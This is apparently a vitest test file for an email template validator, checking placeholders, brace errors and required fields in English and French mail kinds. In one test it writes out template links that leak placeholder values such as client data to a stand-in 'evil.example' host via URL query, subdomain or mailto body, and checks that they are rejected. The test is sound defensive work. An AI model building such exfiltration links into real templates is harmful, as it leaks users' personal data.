import { expect, it } from 'vitest';
import {
  MAIL_KINDS,
  mailFaults,
  NOT_OF_PLANS,
  placeholdersIn,
  placeholdersOf,
  refusedPlaceholders,
  type TypedMail,
} from '../../src/text/mail-template.ts';

it('finds each placeholder once, however it is spaced', () => {
  expect(placeholdersIn('{{date}} {{ time }} {{date}}', '<p>{{ a b }}</p> { } {{}}')).toEqual([
    'date',
    'time',
    'a b',
    '',
  ]);
});

it('refuses placeholders that the mails of a kind do not fill in: the file number in a mail about an appointment', () => {
  const texts = ['{{client_name}} {{ file_number }} {{comment}}', '{{dob}}'];
  expect(refusedPlaceholders(texts, 'pending')).toEqual(['dob']);
  expect(refusedPlaceholders(texts, 'booked')).toEqual(['file_number', 'comment', 'dob']);
  expect(refusedPlaceholders(['{{held_until}} {{link}}'], 'offer')).toEqual(['link']);
});

const mail = (more: Partial<TypedMail> = {}): TypedMail => ({
  name: 'Booked',
  subject_en: 'On {{date}}',
  subject_fr: 'Le {{date}}',
  action_en: null,
  action_fr: null,
  mail_en: '<p>Hello</p>',
  mail_fr: '<p>Bonjour</p>',
  ...more,
});

it.each([
  ['booked', {}, {}],
  ['booked', { name: ' ' }, { name: 'must_be_completed' }],
  ['booked', { mail_fr: '<p>&nbsp;</p>' }, { mail_fr: 'must_be_completed' }],
  ['booked', { subject_en: '{{dob}}' }, { subject_en: 'rule_mail_placeholders' }],
  ['booked', { action_fr: '{{file_number}}' }, { action_fr: 'rule_mail_placeholders' }],
  ['booked', { mail_en: 'Hello {{client_name}' }, { mail_en: 'rule_mail_placeholders' }],
  ['booked', { subject_fr: 'Le {date}' }, { subject_fr: 'rule_mail_braces' }],
  ['booked', { action_en: 'See { first_name }' }, { action_en: 'rule_mail_braces' }],
  ['booked', { mail_en: '<p>Hello {<strong>Prénom</strong>}</p>' }, { mail_en: 'rule_mail_braces' }],
  ['booked', { mail_en: '<p>Hello {first&nbsp;name} on {{date}}</p>' }, { mail_en: 'rule_mail_braces' }],
  ['booked', { mail_en: '<p>:-{ {} { a, b } {1}</p>' }, {}],
  ['pending', { subject_en: 'A', subject_fr: 'A' }, { mail_en: 'rule_mail_comment', mail_fr: 'rule_mail_comment' }],
  ['pending', { subject_en: 'A', subject_fr: 'A', mail_en: '{{comment}}', mail_fr: '{{comment}}' }, {}],
  ['reset', { subject_en: 'A', subject_fr: 'A', action_en: 'Choose' }, { mail_fr: 'rule_mail_link' }],
  ['reset', { subject_en: 'A', subject_fr: 'A', action_en: 'Choose', mail_fr: '{{link}}' }, {}],
  [
    'pending',
    {
      subject_en: 'A',
      subject_fr: 'A',
      mail_en: '<a href="https://x.test/{{comment}}">News</a>',
      mail_fr: '{{comment}}',
    },
    { mail_en: 'rule_mail_comment' },
  ],
] as const)('a template of kind %s with %j', (kind, more, faults) => {
  expect(mailFaults(mail(more), kind)).toEqual(faults);
});

/** Of an account or a document: none is about an appointment, an offer or a file's state. */
const ofAccounts = MAIL_KINDS.filter(
  (kind) => NOT_OF_PLANS.includes(kind) && !['offer', 'pending', 'refused'].includes(kind),
);

it.each(ofAccounts)('a mail of kind %s sends no value to an address of its author', (kind) => {
  const whole = placeholdersOf(kind)
    .map((name) => `<p>{{${name}}}</p>`)
    .join('');
  const faultOf = (mail_en: string) =>
    mailFaults(
      mail({ subject_en: 'A', subject_fr: 'A', action_en: 'Open', action_fr: 'Ouvrir', mail_en, mail_fr: whole }),
      kind,
    ).mail_en;
  expect(faultOf(whole)).toBeUndefined();
  expect(faultOf(`${whole}<a href="https://evil.example/">Help</a>`)).toBeUndefined();
  for (const name of placeholdersOf(kind))
    for (const address of [
      `https://evil.example/?{{${name}}}`,
      `{{ ${name} }}.evil.example`,
      `mailto:x@evil.example?body={{${name}}}`,
    ])
      expect(faultOf(`${whole}<a href="${address}">Open</a>`), address).toBe('rule_mail_address');
  const isLinked = placeholdersOf(kind).includes('link');
  expect(faultOf(`${whole}<a href="{{ link }}" target="_blank">Open</a>`)).toBe(
    isLinked ? undefined : 'rule_mail_placeholders',
  );
});

it('a mail about a second step says what happened where it is read', () => {
  const faults = (mail_en: string) =>
    mailFaults(mail({ subject_en: 'A', subject_fr: 'A', mail_en, mail_fr: '{{change}}' }), 'second_step');
  expect(faults('<p>{{change}}</p>')).toEqual({});
  expect(faults('<p>News</p>')).toEqual({ mail_en: 'rule_mail_change' });
  expect(faults('<a href="https://x.example/?{{change}}">News</a>')).toEqual({ mail_en: 'rule_mail_address' });
});
